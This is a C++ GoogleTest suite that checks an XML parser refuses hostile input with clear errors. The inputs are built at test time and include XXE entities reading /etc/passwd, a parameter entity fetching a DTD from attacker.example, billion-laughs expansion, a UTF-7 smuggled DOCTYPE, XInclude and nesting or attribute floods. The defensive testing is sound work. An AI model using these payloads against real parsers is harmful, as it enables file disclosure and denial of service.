// The hostile-XML corpus: every input an attacker (or a broken peer) might send is refused with a
// clear DocumentError, before any entity is expanded, any file is read or memory blows up. Inputs
// are built at test time so that no large or dangerous file lives in git. Speed is measured in
// tests/bench/canonical_bench.cpp, not here.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <libxml/tree.h>
#include <malloc.h>
#include <sys/resource.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <string>
#include <string_view>

#include "mapping/model/canonical.hpp"
#include "mapping/xml/document.hpp"

namespace tsunagi::mapping {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr std::string_view kDecl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
constexpr std::string_view kSheetRoot =
    "<LiaisonSheet xmlns=\"urn:tsunagi:canonical:1\" kind=\"discharge\">";
// What /etc/passwd starts with: must never show up in a result or an error.
constexpr std::string_view kPasswdContent = "root:";

std::string fixture(const std::string& name) {
  std::ifstream in(std::filesystem::path(TSUNAGI_SOURCE_DIR) / "tests/fixtures/canonical" / name,
                   std::ios::binary);
  EXPECT_TRUE(in) << name;
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

std::string dischargeSheet() { return fixture("discharge-sheet.xml"); }

/// `text` with the first `from` replaced by `to`.
std::string replaced(std::string text, std::string_view from, std::string_view to) {
  const auto at = text.find(from);
  EXPECT_NE(at, std::string::npos) << from;
  if (at != std::string::npos) text.replace(at, from.size(), to);
  return text;
}

/// The discharge sheet with the text of its first <element> replaced by `content`.
std::string withContent(const std::string& element, std::string_view content) {
  std::string bytes = dischargeSheet();
  const auto open = bytes.find("<" + element + ">");
  const auto close = bytes.find("</" + element + ">");
  EXPECT_NE(open, std::string::npos) << element;
  if (open == std::string::npos) return bytes;
  const auto from = open + element.size() + 2;
  bytes.replace(from, close - from, content);
  return bytes;
}

/// The 1-based line of the byte at `offset`.
int lineAt(std::string_view bytes, std::size_t offset) {
  const auto end = bytes.begin() + static_cast<std::ptrdiff_t>(std::min(offset, bytes.size()));
  return 1 + static_cast<int>(std::count(bytes.begin(), end, '\n'));
}

/// The DocumentError `parse(bytes)` raised; a test failure if it accepted the document.
template <class Parse>
DocumentError refusalBy(Parse&& parse, std::string_view bytes) {
  try {
    parse(bytes);
  } catch (const DocumentError& e) {
    return e;
  }
  ADD_FAILURE() << "the document was accepted";
  return DocumentError({Issue{0, "", "(the document was accepted)"}});
}

DocumentError refusal(std::string_view bytes) {
  return refusalBy([](std::string_view b) { parseCanonical(b); }, bytes);
}

DocumentError untrustedRefusal(std::string_view bytes) {
  return refusalBy([](std::string_view b) { xml::parseUntrusted(b); }, bytes);
}

/// Every message a refusal carries, joined: what must never contain file content.
std::string allMessages(const DocumentError& error) {
  std::string out = error.what();
  for (const Issue& issue : error.issues()) {
    out += '\n';
    out += issue.describe();
  }
  return out;
}

long peakRssKiB() {
  rusage usage{};
  getrusage(RUSAGE_SELF, &usage);
  return usage.ru_maxrss;
}

/// How much the peak resident set (ru_maxrss) grew while `call` ran, in MiB. Freed heap is given
/// back and the kernel's high-water mark reset first (writing 5 to /proc/self/clear_refs), so an
/// earlier test's peak cannot hide this one's; the input must already be allocated.
template <class Call>
long peakGrowthMiB(Call&& call) {
  malloc_trim(0);
  std::ofstream("/proc/self/clear_refs") << "5";
  const long before = peakRssKiB();
  call();
  return (peakRssKiB() - before) / 1024;
}

constexpr long kMaxPeakGrowthMiB = 64;

// --- DTDs and entities: refused by the byte scan before libxml2 sees the document. -------------

TEST(HostileXml, DoctypeWithAnInternalSubsetIsRefusedBeforeParsing) {
  const std::string bytes = std::string(kDecl) +
                            "<!DOCTYPE LiaisonSheet [\n  <!ELEMENT LiaisonSheet ANY>\n]>\n" +
                            std::string(kSheetRoot) + "</LiaisonSheet>\n";
  const DocumentError error = refusal(bytes);
  EXPECT_THAT(error.what(), HasSubstr("DOCTYPE declarations are not allowed"));
  EXPECT_EQ(error.issues().at(0).line, 2);
}

TEST(HostileXml, InternalEntityDeclaredAndUsedIsRefused) {
  const std::string bytes = std::string(kDecl) +
                            "<!DOCTYPE LiaisonSheet [<!ENTITY who \"流山 花子\">]>\n" +
                            std::string(kSheetRoot) + "<sheetId>&who;</sheetId></LiaisonSheet>\n";
  EXPECT_THAT(refusal(bytes).what(), HasSubstr("line 2: DOCTYPE declarations are not allowed"));
}

TEST(HostileXml, EntityDeclarationOutsideADoctypeIsRefusedByName) {
  const std::string bytes =
      std::string(kDecl) + std::string(kSheetRoot) + "\n<!ENTITY who \"x\">\n</LiaisonSheet>\n";
  EXPECT_THAT(refusal(bytes).what(), HasSubstr("line 3: ENTITY declarations are not allowed"));
}

TEST(HostileXml, UndeclaredEntityReferenceIsRefused) {
  const DocumentError error = refusal(withContent("nameKanji", "&xxe;"));
  EXPECT_THAT(error.what(), HasSubstr("not well-formed XML: Entity 'xxe' not defined"));
  EXPECT_EQ(error.issues().at(0).line, 11);
}

TEST(HostileXml, ExternalEntityToALocalFileIsRefusedWithoutReadingIt) {
  ASSERT_TRUE(std::filesystem::exists("/etc/passwd"));
  const std::string bytes =
      std::string(kDecl) +
      "<!DOCTYPE LiaisonSheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n" +
      std::string(kSheetRoot) + "<sheetId>&xxe;</sheetId></LiaisonSheet>\n";
  for (const DocumentError& error : {refusal(bytes), untrustedRefusal(bytes)}) {
    EXPECT_THAT(error.what(), HasSubstr("line 2: DOCTYPE declarations are not allowed"));
    EXPECT_THAT(allMessages(error), Not(HasSubstr(kPasswdContent)));
  }
}

TEST(HostileXml, ExternalParameterEntityIsRefused) {
  const std::string bytes = std::string(kDecl) +
                            "<!DOCTYPE LiaisonSheet [\n"
                            "  <!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\">\n"
                            "  %remote;\n]>\n" +
                            std::string(kSheetRoot) + "</LiaisonSheet>\n";
  const DocumentError error = refusal(bytes);
  EXPECT_THAT(error.what(), HasSubstr("line 2: DOCTYPE declarations are not allowed"));
}

TEST(HostileXml, BillionLaughsIsRefusedBeforeExpansion) {
  std::string bytes = std::string(kDecl) + "<!DOCTYPE lolz [\n  <!ENTITY lol \"lol\">\n";
  for (int level = 1; level <= 9; ++level) {
    const std::string previous = level == 1 ? "lol" : "lol" + std::to_string(level - 1);
    bytes += "  <!ENTITY lol" + std::to_string(level) + " \"";
    for (int i = 0; i < 10; ++i) bytes += "&" + previous + ";";
    bytes += "\">\n";
  }
  bytes += "]>\n<lolz>&lol9;</lolz>\n";

  std::string message;
  const long growth = peakGrowthMiB([&] { message = refusal(bytes).what(); });
  EXPECT_THAT(message, HasSubstr("line 2: DOCTYPE declarations are not allowed"));
  EXPECT_LT(growth, kMaxPeakGrowthMiB);
}

TEST(HostileXml, DoctypeAfterACommentOrWithOddWhitespaceIsStillFound) {
  const std::string root = std::string(kSheetRoot) + "</LiaisonSheet>\n";
  struct Variant {
    std::string bytes;
    int line;
  };
  const Variant variants[] = {
      {std::string(kDecl) + "<!-- harmless -->\n<!DOCTYPE LiaisonSheet>\n" + root, 3},
      {std::string(kDecl) + "<!--\n\n-->\r\n<!DOCTYPE\tLiaisonSheet\n[]>\n" + root, 5},
      {std::string(kDecl) + "<!DOCTYPE\nLiaisonSheet\r\nSYSTEM\t\"x.dtd\">" + root, 2},
      {"\xEF\xBB\xBF<!DOCTYPE LiaisonSheet []>" + root, 1},  // after a byte order mark
      {"<?xml version='1.0'?><?pi x?><!DOCTYPE LiaisonSheet>" + root, 1},
  };
  for (const Variant& variant : variants) {
    SCOPED_TRACE(variant.bytes);
    const DocumentError error = refusal(variant.bytes);
    EXPECT_THAT(error.what(), HasSubstr("DOCTYPE declarations are not allowed"));
    EXPECT_EQ(error.issues().at(0).line, variant.line);
  }
}

// XML keywords are case-sensitive: "<!doctype" is not a DOCTYPE but malformed markup, so libxml2
// refuses it as not well-formed (no DTD is ever built from it).
TEST(HostileXml, LowerCaseDoctypeIsRefusedAsNotWellFormed) {
  for (const char* keyword : {"<!doctype", "<!DocType", "<!DOCTYPe"}) {
    SCOPED_TRACE(keyword);
    const std::string bytes = std::string(kDecl) + keyword + " LiaisonSheet>\n" +
                              std::string(kSheetRoot) + "</LiaisonSheet>\n";
    const DocumentError error = refusal(bytes);
    EXPECT_THAT(error.what(), HasSubstr("not well-formed XML"));
    EXPECT_EQ(error.issues().at(0).line, 2);
  }
}

// The byte scan looks for the ASCII "<!DOCTYPE"; it is sound only because the parser is forced to
// UTF-8 whatever the document declares. A UTF-7 declaration must not turn "+ADw-!DOCTYPE" into one.
TEST(HostileXml, EncodingDeclarationCannotSmuggleADoctypePastTheByteScan) {
  const std::string bytes =
      "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n"
      "+ADw-+ACE-DOCTYPE x +AFs-+ADw-+ACE-ENTITY e SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-"
      "+AD4-\n<x>+ACY-e+ADs-</x>\n";
  const DocumentError error = untrustedRefusal(bytes);
  EXPECT_THAT(error.what(), HasSubstr("line 2: not well-formed XML: Start tag expected"));
  EXPECT_THAT(allMessages(error), Not(HasSubstr(kPasswdContent)));
}

// --- Size, depth and attribute caps. ------------------------------------------------------------

TEST(HostileXml, TenThousandDeepNestingIsRefusedWithoutBlowingUpMemory) {
  std::string bytes = std::string(kDecl);
  for (int i = 0; i < 10'000; ++i) bytes += "<a>";
  for (int i = 0; i < 10'000; ++i) bytes += "</a>";

  std::string message;
  const long growth = peakGrowthMiB([&] { message = refusal(bytes).what(); });
  // The linear pre-scan stops at tsunagi's own cap, before libxml2 builds anything.
  EXPECT_THAT(message, HasSubstr("line 2: elements nested deeper than 32 levels"));
  EXPECT_LT(growth, kMaxPeakGrowthMiB);
}

TEST(HostileXml, NestingBeyondTheDepthCapIsRefusedNamingTheCap) {
  std::string bytes = std::string(kDecl) + std::string(kSheetRoot) + "\n";
  for (int i = 0; i < 100; ++i) bytes += "<sheetId>";
  for (int i = 0; i < 100; ++i) bytes += "</sheetId>";
  bytes += "\n</LiaisonSheet>\n";
  EXPECT_THAT(refusal(bytes).what(), HasSubstr("line 3: elements nested deeper than 32 levels"));
}

TEST(HostileXml, HundredMegabyteBodyIsRefusedBySizeBeforeParsing) {
  // A body that would fail every later check (DOCTYPE, NUL) if it were looked at: the size
  // message proves the size check came first.
  std::string bytes = std::string(kDecl) + "<!DOCTYPE x [<!ENTITY a \"b\">]>\n";
  bytes.resize(std::size_t{100} * 1024 * 1024, ' ');
  bytes.back() = '\0';

  std::string canonicalMessage;
  std::string untrustedMessage;
  const long growth = peakGrowthMiB([&] {
    canonicalMessage = refusal(bytes).what();
    untrustedMessage = untrustedRefusal(bytes).what();
  });
  for (const std::string& message : {canonicalMessage, untrustedMessage}) {
    EXPECT_EQ(message, "document is 104857600 bytes, over the limit of " +
                           std::to_string(xml::ParseLimits{}.maxBytes) + " bytes");
  }
  EXPECT_LT(growth, kMaxPeakGrowthMiB);
}

// KNOWN BUG, disabled until fixed: a document under the size limit made only of empty sibling
// elements is refused by the schema, but only after libxml2 built a node for each of them —
// measured ~544 MiB peak growth for the 16 MiB limit. Needs a cap on the element count applied
// before (or while) parsing. Enable with --gtest_also_run_disabled_tests.
TEST(HostileXml, SiblingFloodUnderTheSizeLimitIsRefusedWithoutBlowingUpMemory) {
  const std::string close = "</LiaisonSheet>\n";
  std::string bytes = std::string(kDecl) + std::string(kSheetRoot);
  while (bytes.size() + 4 + close.size() <= xml::ParseLimits{}.maxBytes) bytes += "<a/>";
  bytes += close;

  std::string message;
  const long growth = peakGrowthMiB([&] { message = refusal(bytes).what(); });
  EXPECT_THAT(message, HasSubstr("more than 20000 elements"));
  EXPECT_LT(growth, kMaxPeakGrowthMiB);
}

TEST(HostileXml, LimitOnSizeIsTheCallersChoice) {
  const std::string bytes = dischargeSheet();
  xml::ParseLimits limits;
  limits.maxBytes = 1000;
  try {
    parseCanonical(bytes, limits);
    ADD_FAILURE() << "a document over maxBytes was accepted";
  } catch (const DocumentError& e) {
    EXPECT_THAT(e.what(),
                HasSubstr(std::to_string(bytes.size()) + " bytes, over the limit of 1000 bytes"));
  }
}

TEST(HostileXml, HundredAttributesOnOneElementHitTheAttributeCap) {
  std::string bytes =
      std::string(kDecl) + "<LiaisonSheet xmlns=\"urn:tsunagi:canonical:1\" kind=\"discharge\"";
  for (int i = 0; i < 100; ++i) bytes += " a" + std::to_string(i) + "=\"v\"";
  bytes += "/>\n";
  const DocumentError error = refusal(bytes);
  // Refused by the pre-scan (the namespace declaration and kind count too).
  EXPECT_THAT(error.what(),
              HasSubstr("line 2: element <LiaisonSheet> has more than 16 attributes"));
}

TEST(HostileXml, AttributeFloodIsRefusedBeforeLibxml2SeesIt) {
  // libxml2 2.9 compares each attribute with every earlier one: 80,000 took ~10 s of CPU there.
  std::string bytes = std::string(kDecl) + "<LiaisonSheet xmlns=\"urn:tsunagi:canonical:1\"";
  for (int i = 0; i < 80'000; ++i) bytes += " a" + std::to_string(i) + "=\"v\"";
  bytes += "/>\n";
  std::string message;
  const long growth = peakGrowthMiB([&] { message = refusal(bytes).what(); });
  EXPECT_THAT(message, HasSubstr("element <LiaisonSheet> has more than 16 attributes"));
  EXPECT_LT(growth, kMaxPeakGrowthMiB);
}

TEST(HostileXml, MegabyteAttributeValueOnTheRootIsRefusedWithoutEchoingIt) {
  const std::string huge(std::size_t{1024} * 1024, 'A');
  const std::string inKind =
      replaced(dischargeSheet(), "kind=\"discharge\"", "kind=\"" + huge + "\"");
  const std::string unknown =
      replaced(dischargeSheet(), "kind=\"discharge\"", "kind=\"discharge\" note=\"" + huge + "\"");

  const DocumentError kind = refusal(inKind);
  EXPECT_EQ(kind.issues().at(0).path, "/LiaisonSheet");
  EXPECT_THAT(kind.what(), HasSubstr("[facet 'enumeration']"));
  EXPECT_LT(allMessages(kind).size(), 4096u) << "the error must not carry the 1 MB value";

  const DocumentError other = refusal(unknown);
  EXPECT_THAT(other.what(), AllOf(HasSubstr("line 2: /LiaisonSheet: "),
                                  HasSubstr("The attribute 'note' is not allowed")));
  EXPECT_LT(allMessages(other).size(), 4096u);
}

TEST(HostileXml, TextOverItsMaxLengthIsRefusedCountingCharacters) {
  // 65 kanji are 195 bytes; the schema limit (64) is in characters.
  std::string name;
  for (int i = 0; i < 65; ++i) name += "流";
  const DocumentError error = refusal(withContent("nameKanji", name));
  EXPECT_EQ(error.issues().at(0).path, "/LiaisonSheet/patient/nameKanji");
  EXPECT_EQ(error.issues().at(0).line, 11);
  EXPECT_THAT(error.what(), HasSubstr("length of '65'; this exceeds the allowed maximum length "
                                      "of '64'"));
}

// --- Bytes that are not XML text. --------------------------------------------------------------

TEST(HostileXml, InvalidUtf8InElementTextIsRefusedWithItsLineAndBytes) {
  struct Case {
    const char* what;
    std::string bytes;
    const char* shown;
  };
  const Case cases[] = {
      {"lone 0xFF", "流山\xFF", "Bytes: 0xFF"},
      {"overlong '/'", "流山\xC0\xAF", "Bytes: 0xC0 0xAF"},
      {"truncated 3-byte sequence", "流山\xE3\x81", "Bytes: 0xE3 0x81"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.what);
    const DocumentError error = refusal(withContent("nameKanji", c.bytes));
    EXPECT_THAT(error.what(), HasSubstr("not well-formed UTF-8"));
    EXPECT_THAT(error.what(), HasSubstr(c.shown));
    EXPECT_EQ(error.issues().at(0).line, 11);
  }
}

TEST(HostileXml, NulByteIsRefusedNamingItsOffset) {
  std::string bytes = withContent("nameKanji", std::string("流山\0花子", 10));
  const auto offset = bytes.find('\0');
  for (const DocumentError& error : {refusal(bytes), untrustedRefusal(bytes)}) {
    EXPECT_THAT(error.what(), HasSubstr("line 11: NUL byte at offset " + std::to_string(offset)));
  }
}

TEST(HostileXml, NulAsACharacterReferenceIsRefused) {
  const DocumentError error = refusal(withContent("nameKanji", "流山&#0;花子"));
  EXPECT_THAT(error.what(), HasSubstr("line 11: not well-formed XML"));
  EXPECT_THAT(error.what(), HasSubstr("invalid xmlChar value 0"));
}

// --- Documents that are XML but not ours. --------------------------------------------------------

TEST(HostileXml, WrongNamespaceOnALiaisonSheetNamesBothNamespaces) {
  const std::string bytes =
      replaced(dischargeSheet(), "xmlns=\"urn:tsunagi:canonical:1\"", "xmlns=\"urn:example:evil\"");
  const DocumentError asSheet = refusalBy([](std::string_view b) { parseLiaisonSheet(b); }, bytes);
  for (const DocumentError& error : {refusal(bytes), asSheet}) {
    EXPECT_THAT(error.what(), HasSubstr("line 2: /LiaisonSheet: root element is in namespace "
                                        "'urn:example:evil', expected 'urn:tsunagi:canonical:1'"));
  }
}

TEST(HostileXml, UnknownRootElementIsRefusedNamingTheAcceptedRoots) {
  const std::string bytes =
      std::string(kDecl) + "<Prescription xmlns=\"urn:tsunagi:canonical:1\"><drug/></Prescription>";
  const DocumentError error = refusal(bytes);
  EXPECT_EQ(error.issues().at(0).path, "/Prescription");
  EXPECT_THAT(error.what(), HasSubstr("not a canonical document: the root element must be "
                                      "LiaisonSheet, CaseUpdate or CaseMembership"));
}

// XInclude is never enabled (no XML_PARSE_XINCLUDE, no xmlXIncludeProcess): the element stays an
// inert, empty element, which the schema then refuses.
TEST(HostileXml, XIncludeIsNeverProcessed) {
  const std::string include =
      "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\" "
      "parse=\"text\"/>";
  const std::string asElement = replaced(dischargeSheet(), "<sheetId>", include + "\n  <sheetId>");
  const std::string inText = withContent("address", include);

  const xml::Document document = xml::parseUntrusted(asElement);
  const xmlNode* first = xmlFirstElementChild(document.root());
  ASSERT_NE(first, nullptr);
  EXPECT_STREQ(reinterpret_cast<const char*>(first->name), "include");
  EXPECT_EQ(first->children, nullptr);
  xmlChar* content = xmlNodeGetContent(document.root());
  const std::string text = content ? reinterpret_cast<const char*>(content) : "";
  xmlFree(content);
  EXPECT_THAT(text, Not(HasSubstr(kPasswdContent)));

  const DocumentError element = refusal(asElement);
  EXPECT_EQ(element.issues().at(0).path, "/LiaisonSheet/include");
  EXPECT_THAT(element.what(), HasSubstr("This element is not expected"));
  const DocumentError nested = refusal(inText);
  EXPECT_EQ(nested.issues().at(0).path, "/LiaisonSheet/patient/address");
  for (const DocumentError& error : {element, nested}) {
    EXPECT_THAT(allMessages(error), Not(HasSubstr(kPasswdContent)));
  }
}

// Decision: processing instructions are legal XML and harmless here (libxml2 never acts on
// xml-stylesheet), so a sheet carrying them is accepted; they are not part of the model, so the
// serialized sheet does not carry them on.
TEST(HostileXml, StylesheetProcessingInstructionIsIgnoredAndDropped) {
  const std::string clean = dischargeSheet();
  std::string bytes =
      replaced(clean, "<LiaisonSheet",
               "<?xml-stylesheet type=\"text/xsl\" href=\"file:///etc/passwd\"?>\n<LiaisonSheet");
  bytes = replaced(bytes, "<sheetId>",
                   "<?xml-stylesheet href=\"http://attacker.example/x\"?><sheetId>");
  const CanonicalDocument document = parseCanonical(bytes);
  const std::string out = serialize(document);
  EXPECT_EQ(out, clean);
  EXPECT_THAT(out, Not(HasSubstr("xml-stylesheet")));
}

// The byte scan is deliberately strict: it does not parse, so "<!DOCTYPE" inside CDATA (or a
// comment) is refused too. Text that must mention it escapes the '<', which passes.
TEST(HostileXml, DoctypeInsideCdataIsRefusedBecauseTheScanIsDeliberatelyStrict) {
  const DocumentError cdata = refusal(withContent("notes", "<![CDATA[<!DOCTYPE x>]]>"));
  EXPECT_THAT(cdata.what(), HasSubstr("DOCTYPE declarations are not allowed"));
  EXPECT_EQ(cdata.issues().at(0).line, lineAt(dischargeSheet(), dischargeSheet().find("<notes>")));

  const LiaisonSheet escaped = parseLiaisonSheet(withContent("notes", "&lt;!DOCTYPE x&gt;"));
  EXPECT_EQ(escaped.notes, "<!DOCTYPE x>");
}

// --- Broken documents. ---------------------------------------------------------------------------

TEST(HostileXml, EmptyInputIsRefused) {
  for (const DocumentError& error : {refusal(""), untrustedRefusal("")}) {
    EXPECT_STREQ(error.what(), "document is empty");
  }
}

TEST(HostileXml, WhitespaceOnlyInputIsRefused) {
  const DocumentError error = refusal(" \n\t\r\n ");
  EXPECT_STREQ(error.what(), "document is empty");
}

TEST(HostileXml, DocumentCutInTheMiddleIsRefusedWithTheLineWhereItEnds) {
  const std::string sheet = dischargeSheet();
  const std::string inText = sheet.substr(0, sheet.find("<nameKanji>") + 11);
  EXPECT_THAT(refusal(inText).what(),
              HasSubstr("line 11: not well-formed XML: Premature end of data in tag nameKanji"));

  const std::string inTag = sheet.substr(0, sheet.find("<nameKanji>") + 5);
  EXPECT_THAT(refusal(inTag).what(), HasSubstr("line 11: not well-formed XML"));

  // Cut in the middle of a multi-byte character as well as in the middle of the document.
  const std::string half = sheet.substr(0, sheet.size() / 2);
  ASSERT_EQ(static_cast<unsigned char>(half.back()) & 0xC0, 0x80) << "not inside a character";
  const DocumentError error = refusal(half);
  EXPECT_THAT(error.what(), HasSubstr("not well-formed XML"));
  EXPECT_EQ(error.issues().at(0).line, lineAt(half, half.size()));
}

TEST(HostileXml, TwoRootElementsAreRefused) {
  const std::string sheet = dischargeSheet();
  const std::string bytes = sheet + std::string(kSheetRoot) + "</LiaisonSheet>\n";
  const DocumentError error = refusal(bytes);
  EXPECT_THAT(error.what(), HasSubstr("not well-formed XML: Extra content at the end of the "
                                      "document"));
  EXPECT_EQ(error.issues().at(0).line, lineAt(bytes, sheet.size()));
}

}  // namespace
}  // namespace tsunagi::mapping
